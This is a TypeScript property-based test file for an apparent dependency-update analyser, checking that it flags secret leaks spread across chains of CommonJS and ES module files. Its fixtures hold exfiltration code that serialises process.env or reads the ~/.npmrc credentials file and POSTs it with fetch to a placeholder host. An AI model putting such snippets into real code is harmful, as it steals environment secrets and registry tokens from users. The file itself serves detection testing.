import { describe, expect, it } from '@jest/globals';
import fc from 'fast-check';
import { gradesOf } from '../helpers/an-update.ts';
import {
  commonJs,
  commonPassages,
  commonTakings,
  handing,
  modulePassages,
  modules,
  moduleTakings,
  type Passage,
  type Shape,
  type Taking,
} from '../helpers/module-shapes.ts';

const gives = ['() => ({ ...process.env })', 'function () { return JSON.stringify(process.env) }', '() => Object.entries(process.env)'];
const sends = ["(what) => fetch('https://in.invalid', { method: 'POST', body: JSON.stringify(what) })"];

interface Side {
  readonly shape: Shape;
  readonly passages: readonly Passage[];
  readonly taking: Taking;
}

interface Leak {
  readonly give: Side;
  readonly send: Side;
  readonly hand: (typeof handing)[number];
  readonly given: string;
  readonly sent: string;
}

/** The files of a side, what stands first in the file that hands over, and the expression there. */
function sideOf(file: string, { shape, passages, taking }: Side, expression: string, esm: boolean) {
  const ending = esm ? '.js' : '';
  const files: Record<string, string> = { [`${file}.js`]: shape.text(expression) };
  let { reach } = shape;
  let from = file;
  for (const [at, passage] of passages.entries()) {
    files[`${file}${at}.js`] = passage.text(`./${from}${ending}`, reach);
    reach = passage.reach(reach);
    from = `${file}${at}`;
  }
  return { files, taken: taking.take(`./${from}${ending}`, reach, file) };
}

async function isSeen({ give, send, hand, given, sent }: Leak, esm: boolean): Promise<boolean> {
  const one = sideOf('one', give, given, esm);
  const two = sideOf('two', send, sent, esm);
  const index = `${one.taken[0]} ${two.taken[0]} ${hand.text(one.taken[1], two.taken[1])}`;
  const before: Record<string, string> = { 'index.js': esm ? 'export default 1' : 'module.exports = 1' };
  const told = await gradesOf(before, { ...one.files, ...two.files, 'index.js': index }, esm ? { type: 'module' } : {});
  return told.import.grade === 'convicts';
}

const side = (shapes: readonly Shape[], passages: readonly Passage[], takings: readonly Taking[]) =>
  fc.record({
    shape: fc.constantFrom(...shapes),
    passages: fc.array(fc.constantFrom(...passages), { maxLength: 3 }),
    taking: fc.constantFrom(...takings),
  });

describe.each([
  ['CommonJS', false, commonJs, commonPassages, commonTakings],
  ['ES modules', true, modules, modulePassages, moduleTakings],
] as const)('a leak through files in %s', (_, esm, shapes, passages, takings) => {
  const plain = { shape: shapes[0], passages: [], taking: takings[0] } as Side;
  const leak = { give: plain, send: plain, hand: handing[0], given: gives[0], sent: sends[0] } as Leak;

  it.each([
    ...shapes.flatMap((shape) => [
      { ...leak, give: { ...plain, shape } },
      { ...leak, send: { ...plain, shape } },
    ]),
    ...passages.flatMap((passage) => [
      { ...leak, give: { ...plain, passages: [passage] } },
      { ...leak, send: { ...plain, passages: [passage] } },
    ]),
    ...takings.flatMap((taking) => [
      { ...leak, give: { ...plain, taking } },
      { ...leak, send: { ...plain, taking } },
    ]),
    ...handing.map((hand) => ({ ...leak, hand })),
    ...handing.map((hand) => ({ ...leak, hand, send: { ...plain, taking: takings.find(({ label }) => label === 'on the spot') ?? plain.taking } })),
    ...gives.map((given) => ({ ...leak, given })),
  ])('is seen in every single shape', async (one) => {
    expect(await isSeen(one, esm)).toBe(true);
  });

  it('is seen in shapes put together at random', async () => {
    const any = side(shapes, passages, takings);
    const leaks = fc.record({
      give: any,
      send: any,
      hand: fc.constantFrom(...handing),
      given: fc.constantFrom(...gives),
      sent: fc.constantFrom(...sends),
    });
    await fc.assert(
      fc.asyncProperty(leaks, async (one) => isSeen(one, esm)),
      { numRuns: 40 },
    );
  });

  it('is seen through a long chain of files', async () => {
    const passage = passages.find(({ label }) => label === 'as it is' || label === 'imported and exported') as Passage;
    const far = { ...plain, passages: Array.from({ length: 40 }, () => passage) };
    expect(await isSeen({ ...leak, give: far, send: far }, esm)).toBe(true);
  });
});

/** Reads credentials and sends them: convicts where it runs unasked. */
const takes = `() => { fetch('https://in.invalid', { method: 'POST', body: fs.readFileSync(os.homedir() + '/.npmrc', 'utf8') }) }`;

describe.each([
  ['CommonJS', false, commonJs, commonPassages, commonTakings],
  ['ES modules', true, modules, modulePassages, moduleTakings],
] as const)('a function given away in %s', (_, esm, shapes, passages, takings) => {
  const plain = { shape: shapes[0], passages: [], taking: takings[0] } as Side;
  const first = esm ? `import fs from 'node:fs'; import os from 'node:os';` : `const fs = require('fs'), os = require('os');`;
  const gradeOf = async (one: Side, index: (name: string) => string) => {
    const { files, taken } = sideOf('one', { ...one, shape: { ...one.shape, text: (expression) => first + one.shape.text(expression) } }, takes, esm);
    const before: Record<string, string> = { 'index.js': esm ? 'export default 1' : 'module.exports = 1' };
    return (await gradesOf(before, { ...files, 'index.js': `${taken[0]} ${index(taken[1])}` }, esm ? { type: 'module' } : {})).import.grade;
  };

  it.each([
    ...shapes.map((shape) => ({ ...plain, shape })),
    ...passages.map((passage) => ({ ...plain, passages: [passage] })),
    ...passages.map((passage) => ({ ...plain, passages: [passage, passages[0] as Passage] })),
    ...takings.map((taking) => ({ ...plain, taking })),
  ])('runs where another file calls it, and waits where it is only given on', async (one) => {
    const gives = (name: string) => (esm ? `export const go = () => ${name}();` : `exports.go = () => ${name}();`);
    expect([await gradeOf(one, (name) => `${name}();`), await gradeOf(one, gives)]).toEqual(['convicts', 'weak']);
  });
});
